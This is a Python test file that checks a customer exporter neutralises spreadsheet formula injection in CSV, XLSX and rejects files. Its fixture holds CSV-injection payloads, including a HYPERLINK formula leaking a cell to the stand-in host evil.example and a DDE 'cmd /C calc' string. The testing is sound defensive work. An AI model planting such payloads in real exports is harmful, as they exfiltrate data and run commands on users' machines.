"""Exports carry no live formulas, and what they write reads back unchanged, on both databases."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Connection, insert

from tierwise.customers.export import export_customers
from tierwise.customers.importing import CustomersImport
from tierwise.ingest.pipeline import WriteCounts

from ..support.import_support import CUSTOMERS, customer, load

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A2,"点我")',
    "phone": "+86 138 0000 0000",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "address": "-2+3",
    "industry": "=SUM(A1:A9)",
}


@pytest.fixture
def hostile(connection: Connection) -> Connection:
    """One customer whose every text field would start a formula in a spreadsheet."""
    connection.execute(
        insert(CUSTOMERS).values(code="C1", kind="enterprise", status="active", **HOSTILE)
    )
    return connection


def test_the_customer_csv_neutralises_formulas_and_reimports_unchanged(
    hostile: Connection, tmp_path: Path
) -> None:
    path = tmp_path / "customers.csv"
    assert export_customers(hostile, path, "csv") == 1
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = dict(zip(header, row, strict=True))
    for field, value in HOSTILE.items():
        assert cells[field] == "'" + value
    result = load(hostile, CustomersImport(), path)
    assert result.counts == WriteCounts(inserted=0, updated=0, unchanged=1)
    stored = customer(hostile, "C1")
    assert {f: stored[f] for f in HOSTILE} == HOSTILE


def test_the_customer_xlsx_holds_text_not_formulas_and_reimports_unchanged(
    hostile: Connection, tmp_path: Path
) -> None:
    path = tmp_path / "customers.xlsx"
    assert export_customers(hostile, path, "xlsx") == 1
    header, row = load_workbook(path).worksheets[0].iter_rows(min_row=1, max_row=2)
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    for field, value in HOSTILE.items():
        assert (cells[field].value, cells[field].data_type) == (value, "s")
    result = load(hostile, CustomersImport(), path)
    assert result.counts == WriteCounts(inserted=0, updated=0, unchanged=1)


def test_a_rejects_file_neutralises_formulas(
    connection: Connection,
    write_csv,  # type: ignore[no-untyped-def]
) -> None:
    path = write_csv("bad.csv", 'code,name,kind\nC9,"=HYPERLINK(""http://x"")",alien\n')
    result = load(connection, CustomersImport(), path, skip_invalid=True)
    assert result.rejected == 1 and result.rejects_file is not None
    with result.rejects_file.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    assert dict(zip(header, row, strict=True))["name"] == '\'=HYPERLINK("http://x")'
